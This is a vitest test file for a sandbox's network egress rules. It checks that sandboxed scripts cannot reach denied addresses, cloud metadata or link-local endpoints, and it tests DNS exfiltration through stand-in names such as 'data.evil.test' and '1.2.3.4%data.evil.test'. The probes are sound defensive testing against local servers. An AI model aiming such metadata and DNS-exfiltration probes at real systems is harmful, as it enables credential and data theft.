import { execFile } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { chmodSync, cpSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { type AddressInfo, createServer, type Server } from 'node:net';
import { networkInterfaces } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { EgressSettings } from '../../../src/probes/egress/policy.ts';
import { findBrowser } from '../../../src/sandbox/browsers/find-browser.ts';
import {
  mechanismInShort,
  type SandboxFacts,
  type SandboxMechanism,
} from '../../../src/sandbox/mechanism.ts';
import { openSandboxes } from '../../../src/sandbox/pool/pool.ts';
import { readRuntimes } from '../../../src/sandbox/runtimes/runtimes.ts';
import type { SandboxedEnd } from '../../../src/sandbox/sandbox.ts';
import { systemProgram } from '../../../src/sandbox/system-program.ts';
import { isNight } from '../../helpers/night.ts';
import { PlainUser } from '../../helpers/scripts/plain-user.ts';
import { runtimesDirectory } from '../../helpers/scripts/script-stage.ts';
import { type Attempt, nodeAttempts, nodeTools, pageAttempts } from './egress-attempts.ts';

const isRoot = process.getuid?.() === 0;
const closed = '127.9.9.9';
const open = '127.0.0.1';

/** A TCP and UDP server that counts its visitors. */
async function listen(address: string, port: number, onVisit: (how: string) => void) {
  const server: Server = createServer((socket) => {
    onVisit(`tcp ${socket.localAddress}`);
    socket.on('error', () => undefined);
    socket.once('data', (data) => {
      const isRedirect = String(data).startsWith('GET /redirect');
      const head = isRedirect ? `302 Found\r\nLocation: http://${closed}:${target.closedPort}/` : '200 OK';
      socket.end(
        `HTTP/1.1 ${head}\r\nContent-Type: text/html\r\nContent-Length: 2\r\nConnection: close\r\n\r\nhi`,
      );
    });
  });
  await once(server.listen(port, address), 'listening');
  const datagrams = createSocket('udp4');
  const { port: taken } = server.address() as AddressInfo;
  datagrams.on('message', (_data, { port: from, address: at }) => {
    onVisit(`udp ${address}`);
    datagrams.send('hi', from, at);
  });
  datagrams.bind(taken, address);
  await once(datagrams, 'listening');
  return {
    port: taken,
    close: () => {
      server.close();
      datagrams.close();
    },
  };
}

/** A name server on the port that resolv.conf implies; it resolves every name, and records queries. */
async function startNameServer(address: string) {
  const names: string[] = [];
  const answer = (query: Buffer): Buffer => {
    const labels: string[] = [];
    let at = 12;
    for (let length = query[at] ?? 0; length > 0; length = query[at] ?? 0) {
      labels.push(query.toString('latin1', at + 1, at + 1 + length));
      at += 1 + length;
    }
    names.push(labels.join('.').toLowerCase());
    const question = query.subarray(12, at + 5);
    const isA = query.readUInt16BE(at + 1) === 1;
    const head = Buffer.from([query[0] ?? 0, query[1] ?? 0, 0x81, 0x80, 0, 1, 0, isA ? 1 : 0, 0, 0, 0, 0]);
    const record = Buffer.from([0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 1, 0, 4, 127, 7, 7, 1]);
    return Buffer.concat([head, question, ...(isA ? [record] : [])]);
  };
  const datagrams = createSocket('udp4');
  datagrams.on('message', (query, { port, address: at }) => datagrams.send(answer(query), port, at));
  datagrams.bind(53, address);
  await once(datagrams, 'listening');
  const server = createServer((socket) => {
    socket.on('error', () => undefined);
    socket.on('data', (data) => {
      const reply = answer(data.subarray(2));
      socket.write(Buffer.concat([Buffer.from([0, reply.length]), reply]));
    });
  });
  await once(server.listen(53, address), 'listening');
  return {
    names,
    [Symbol.dispose]: () => {
      datagrams.close();
      server.close();
    },
  };
}

const target = { closedPort: 0, openPort: 0, ownPort: 0, visits: [] as string[], openVisits: [] as string[] };

describe.each<{ readonly mechanism: SandboxMechanism }>([
  { mechanism: 'uid+namespaces' },
  { mechanism: 'user-namespaces' },
])('connections of scripts under $mechanism', ({ mechanism }) => {
  const itRuns = it.skipIf(mechanism === 'uid+namespaces' && !isRoot);
  const servers: { close(): void }[] = [];
  let user: PlainUser | undefined;
  let directory: string;

  beforeAll(async () => {
    target.visits = [];
    target.openVisits = [];
    const closedServer = await listen(closed, 0, (how) => target.visits.push(how));
    const openServer = await listen(open, 0, (how) => target.openVisits.push(how));
    const ownServer = await listen('0.0.0.0', 0, (how) => target.visits.push(`own ${how}`));
    servers.push(closedServer, openServer, ownServer);
    Object.assign(target, {
      closedPort: closedServer.port,
      openPort: openServer.port,
      ownPort: ownServer.port,
    });
    user = isRoot && mechanism === 'user-namespaces' ? new PlainUser() : undefined;
    directory = mkdtempSync(join(user?.home ?? '/var/tmp', 'picket-egress-'));
    chmodSync(directory, 0o777);
  });
  afterAll(() => {
    for (const server of servers.splice(0)) server.close();
    rmSync(directory, { recursive: true, force: true });
    user?.[Symbol.dispose]();
  });

  async function inSandbox(script: string, more: object = {}) {
    const order = {
      mechanism,
      directory: join(directory, 'sandboxes'),
      egress: { allow: '', deny: '127.9.9.0/24', ownPorts: [target.ownPort] },
      script: `const T = '${closed}', P = ${target.closedPort}, A = '${open}', Q = ${target.openPort}, O = ${target.ownPort};\n${script}`,
      ...more,
    };
    const file = join(directory, 'order.json');
    writeFileSync(file, JSON.stringify(order));
    const main = join(import.meta.dirname, 'egress-main.ts');
    const command = [...(user?.wrapper ?? []), process.execPath, main, file];
    const [program = '', ...args] = command;
    const { stdout } = await promisify(execFile)(program, args, { maxBuffer: 2 ** 24 });
    return JSON.parse(stdout) as {
      output: string;
      end: SandboxedEnd;
      facts: SandboxFacts;
      ownerUid: number;
    };
  }

  const all = (attempts: readonly Attempt[]) =>
    attempts
      .map(
        ({ name, code }) => `
    console.log(${JSON.stringify(name)}, '→', String(await Promise.race([
      (async () => { ${code} })().catch((error) => error.cause?.code ?? error.code ?? error), new Promise((done) => setTimeout(done, 3000, 'nothing'))])).slice(0, 80));`,
      )
      .join('');

  itRuns('no Node API reaches closed addresses', { timeout: 180_000 }, async () => {
    const { output, end, facts, ownerUid } = await inSandbox(`${nodeTools} (async () => { ${all(nodeAttempts)}
      console.log('control', await dial(A, Q), await tell('udp4', Q, A, true)); process.exit(0); })();`);
    expect(facts).toMatchObject({ hasOwnNetwork: true, mechanism });
    expect(ownerUid).toBe(0);
    expect(output).toMatch(/control HTTP\/1\.1 200[\s\S]* hi/);
    expect(output.match(/→/g)).toHaveLength(nodeAttempts.length);
    expect(target.visits, output).toEqual([]);
    expect(end.refusedConnections).toContain(
      `a connection to ${closed} is refused by the rule 127.9.9.0/24 of EGRESS_DENY`,
    );
  });

  if (!isNight && mechanism !== 'user-namespaces') return; // Both have the same network.
  itRuns(
    'the default rules apply: metadata, link-local, and the own port at every address',
    { timeout: 120_000 },
    async () => {
      const own = ['127.0.0.1', '127.8.8.8', 'localhost', '0.0.0.0', '::1', '::ffff:127.0.0.1'];
      const { output } = await inSandbox(`${nodeTools} (async () => {
      const addresses = Object.values(require('node:os').networkInterfaces()).flat().map(({ address }) => address);
      for (const host of ['169.254.169.254', '169.254.1.1', '100.100.100.200']) console.log(host, await dial(host, 80).catch((error) => error.code));
      for (const host of [...${JSON.stringify(own)}, ...addresses]) console.log('own', host, await Promise.race([dial(host, O).catch((error) => error.code), new Promise((done) => setTimeout(done, 2000, 'nothing'))]));
      process.exit(0);
    })();`);
      for (const host of ['169.254.169.254', '169.254.1.1', '100.100.100.200']) {
        expect(output).toContain(`${host} ECONNREFUSED`);
      }
      expect(output).not.toContain('HTTP/1.1');
      expect(target.visits, output).toEqual([]);
    },
  );

  itRuns('open addresses beyond loopback are reachable, too', { timeout: 120_000 }, async ({ skip }) => {
    const others = Object.values(networkInterfaces()).flat();
    const address = others.find((one) => one?.family === 'IPv4' && !one.internal)?.address;
    if (address === undefined) return skip('this host has no address but loopback');
    const server = await listen(address, 0, () => undefined);
    servers.push(server);
    const { output } = await inSandbox(`${nodeTools} (async () => {
      const answers = await Promise.all([1, 2, 3].map(() => dial('${address}', ${server.port})));
      for (const answer of answers) console.log(answer.split('\\r')[0]);
      console.log(await tell('udp4', ${server.port}, '${address}', true));
      process.exit(0);
    })().catch((error) => { console.log(error.code); process.exit(1); });`);
    expect(output).toBe('HTTP/1.1 200 OK\nHTTP/1.1 200 OK\nHTTP/1.1 200 OK\nhi\n');
  });

  itRuns(
    'connection failures are those of the target, and loopback is the run’s own first',
    { timeout: 120_000 },
    async () => {
      const { output } = await inSandbox(`${nodeTools} (async () => {
      console.log('refused', await dial(A, 9).catch((error) => error.code));
      const server = net.createServer((socket) => socket.end('mine')).listen(Q, A);
      await new Promise((done) => server.once('listening', done));
      console.log('same port', await dial(A, Q)); server.close();
      const half = net.connect({ host: A, port: Q, allowHalfOpen: true }); half.end('GET / HTTP/1.0\\r\\n\\r\\n');
      let got = ''; for await (const chunk of half) got += chunk; console.log('half', got.endsWith('hi'));
      process.exit(0);
    })();`);
      expect(output).toBe('refused ECONNREFUSED\nsame port mine\nhalf true\n');
    },
  );

  itRuns("a closed port is refused, including the relay's", { timeout: 120_000 }, async () => {
    const { output } = await inSandbox(`${nodeTools} (async () => {
      const counts = {};
      for (const host of ['127.0.0.1', '::1', '127.0.0.2', '::ffff:127.0.0.1']) for (let round = 0; round < 12; round += 1) {
        const what = host + ' ' + await new Promise((done) => { const socket = net.connect({ host, port: 1 }, () => { socket.destroy(); done('open'); }).on('error', ({ code }) => done(code)); });
        counts[what] = (counts[what] ?? 0) + 1;
      }
      console.log(JSON.stringify(counts));
      process.exit(0);
    })();`);
    expect(JSON.parse(output)).toEqual({
      '127.0.0.1 ECONNREFUSED': 12,
      '::1 ECONNREFUSED': 12,
      '127.0.0.2 ECONNREFUSED': 12,
      '::ffff:127.0.0.1 ECONNREFUSED': 12,
    });
  });

  itRuns('no page API reaches closed addresses', { timeout: 180_000 }, async ({ skip }) => {
    const runtimes = await readRuntimes(runtimesDirectory);
    const runtime = runtimes.find(runtimes.ids[0] ?? '');
    const browser = await findBrowser({}).catch(() => undefined);
    if (!runtime || !browser) return skip('no runtime or no browser here');
    // The checkout may be below a folder that sandboxes replace.
    const modules = join(directory, 'node_modules');
    for (const name of ['playwright', 'playwright-core'])
      cpSync(join(runtime.modulesDirectory, name), join(modules, name), { recursive: true });
    const { output, end } = await inSandbox(
      `const { chromium } = require('playwright');
      (async () => {
        const executablePath = ${JSON.stringify(browser.executablePath)};
        const browser = await chromium.launch({ executablePath });
        const again = async (options) => { const other = await chromium.launch({ executablePath, ...options }); try { const page = await other.newPage(); return await page.goto('http://name.test:' + P + '/', { timeout: 2000 }); } finally { await other.close(); } };
        let page;
        for (const attempt of [${pageAttempts.map(({ name, code }) => `[${JSON.stringify(name)}, async () => { ${code} }]`).join(',\n')}]) {
          page = await browser.newPage();
          page.setDefaultTimeout(2500);
          await page.goto(\`http://\${A}:\${Q}/\`);
          console.log(attempt[0], '→', String(await attempt[1]().catch((error) => error.message.split('\\n')[0])).slice(0, 100));
        }
        console.log('control', await (await browser.newPage()).goto(\`http://\${A}:\${Q}/\`).then((answer) => answer.status()));
        process.exit(0);
      })().catch((error) => { console.log(error); process.exit(1); });`,
      { modules },
    );
    expect(end, output).toMatchObject({ reason: 'exited', exitCode: 0 });
    expect(output).toContain('control 200');
    expect(output.match(/→/g)).toHaveLength(pageAttempts.length);
    expect(target.visits, output).toEqual([]);
  });
});

describe.skipIf(!isRoot)('names that scripts look up', () => {
  it("are sent to the host's name servers only if an address may result", {
    timeout: 120_000,
  }, async () => {
    using server = await startNameServer('127.7.7.53');
    const directory = mkdtempSync('/var/tmp/picket-egress-');
    chmodSync(directory, 0o755);
    const script = `${nodeTools} const dns = require('node:dns');
      const frame = (name) => { const labels = name.split('.').flatMap((label) => [label.length, ...Buffer.from(label)]); const message = Buffer.from([0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, ...labels, 0, 0, 1, 0, 1]); return Buffer.concat([Buffer.from([0, message.length]), message]); };
      const overTcp = (...names) => new Promise((done) => { const socket = net.connect(53, '127.7.7.53', () => { for (const name of names) socket.write(frame(name)); }); let got = 0; socket.on('data', (data) => { got += data.length; if (names.length === 1) { socket.destroy(); done('answered'); } }).on('error', ({ code }) => done(code)).on('close', () => done('closed after ' + got)); });
      const say = (what, promise) => promise.then((value) => console.log(what, String(value?.address ?? value)), ({ code }) => console.log(what, code));
      (async () => {
        await say('lookup', dns.promises.lookup('data.evil.test'));
        await say('resolve', dns.promises.resolveTxt('more.evil.test'));
        await say('spelt', new Promise((done) => { const socket = dgram.createSocket('udp4'); socket.on('message', (answer) => { socket.close(); done('code ' + (answer[3] & 15)); }); socket.send(frame('1.2.3.4%data.evil.test').subarray(2), 53, '127.7.7.53'); }));
        await say('tcp', overTcp('tcp.evil.test'));
        await say('tcp after another', overTcp('one.shop.test', 'second.evil.test'));
        await say('no question', new Promise((done) => { const socket = dgram.createSocket('udp4'); socket.send('data in no question', 53, '127.7.7.53', () => { socket.close(); done('sent'); }); }));
        await say('allowed', dns.promises.lookup('www.shop.test'));
        await say('allowed by TCP', overTcp('tcp.shop.test'));
        process.exit(0);
      })();`;
    const order = {
      mechanism: 'uid+namespaces',
      directory: join(directory, 'sandboxes'),
      egress: { allow: '*.shop.test', deny: '*', ownPorts: [] },
      script,
    };
    const file = join(directory, 'order.json');
    const conf = join(directory, 'resolv.conf');
    writeFileSync(file, JSON.stringify(order));
    writeFileSync(conf, 'nameserver 127.7.7.53\noptions timeout:1 attempts:1\n');
    chmodSync(conf, 0o644);
    const main = join(import.meta.dirname, 'egress-main.ts');
    const mounted = `mount --bind ${conf} /etc/resolv.conf && exec "$@"`;
    try {
      const { stdout } = await promisify(execFile)(systemProgram('unshare'), [
        '--mount',
        ...['/bin/sh', '-c', mounted, 'mounted', process.execPath, main, file],
      ]);
      const { output, end } = JSON.parse(stdout) as { output: string; end: SandboxedEnd };
      expect(output.trim().split('\n')).toEqual([
        'lookup ENOTFOUND',
        'resolve ENOTFOUND',
        'spelt code 3',
        'tcp ECONNRESET',
        expect.stringMatching(/^tcp after another (ECONNRESET|closed after 0)$/),
        'no question sent',
        'allowed 127.7.7.1',
        'allowed by TCP answered',
      ]);
      expect(server.names.filter((name) => !name.endsWith('.shop.test'))).toEqual([]);
      expect(server.names).toContain('www.shop.test');
      expect(end.refusedConnections).toContain(
        'a look-up of data.evil.test is refused by the rule * of EGRESS_DENY',
      );
    } finally {
      rmSync(directory, { recursive: true, force: true });
    }
  });
});

describe.skipIf(!isRoot)('an agent on a host that cannot create networks', () => {
  it('is protected from scripts of its user anyway', { timeout: 120_000 }, async () => {
    using user = new PlainUser();
    const directory = mkdtempSync(join(user.home, 'picket-egress-'));
    chmodSync(directory, 0o777);
    const covered =
      'for name in $(command -v iptables-restore); do mount --bind /dev/null "$name"; done; exec "$@"';
    const cover = [systemProgram('unshare'), '--mount', '/bin/sh', '-c', covered, 'covered'];
    const egress = { allow: '', deny: '', ownPorts: [] };
    const order = {
      mechanism: 'user-namespaces',
      directory: join(directory, 'sandboxes'),
      egress,
      script: '',
    };
    const file = join(directory, 'order.json');
    writeFileSync(file, JSON.stringify(order));
    const main = join(import.meta.dirname, 'egress-main.ts');
    const [program = '', ...args] = [...cover, ...user.wrapper, process.execPath, main, file];
    const { facts, ownerUid } = JSON.parse((await promisify(execFile)(program, args)).stdout);
    expect(facts).toMatchObject({ hasOwnNetwork: false, mechanism: 'user-namespaces' });
    expect(ownerUid).toBe(0);
  });
});

describe.skipIf(!isRoot)("on the host's network (uid)", () => {
  const opened = async (egress: EgressSettings, isUnisolatedAllowed = false) => {
    const directory = mkdtempSync('/var/tmp/picket-egress-');
    chmodSync(directory, 0o755);
    try {
      const pool = await openSandboxes({
        directory: join(directory, 'sandboxes'),
        slotCount: 1,
        firstUid: 31_500,
        mechanism: 'uid',
        egress,
        isUnisolatedAllowed,
      });
      await pool.close();
      return pool.facts;
    } finally {
      rmSync(directory, { recursive: true, force: true });
    }
  };

  it('EGRESS_DENY disables scripts, unless the operator insists', async () => {
    const egress = { allow: '', deny: '10.0.0.0/8', ownPorts: [] };
    await expect(opened(egress)).rejects.toThrow(/EGRESS_DENY would not hold for scripts/);
    expect(await opened(egress, true)).toMatchObject({ mechanism: 'uid', hasOwnNetwork: false });
  });

  it('the defaults that do not apply are reported', async () => {
    const facts = await opened({ allow: '', deny: '', ownPorts: [] });
    expect(facts.problems.join()).toMatch(
      /metadata services, link-local addresses and the agent's own port are open/,
    );
    expect(mechanismInShort(facts)).toBe("uid, the host's network: no egress rules hold");
  });
});
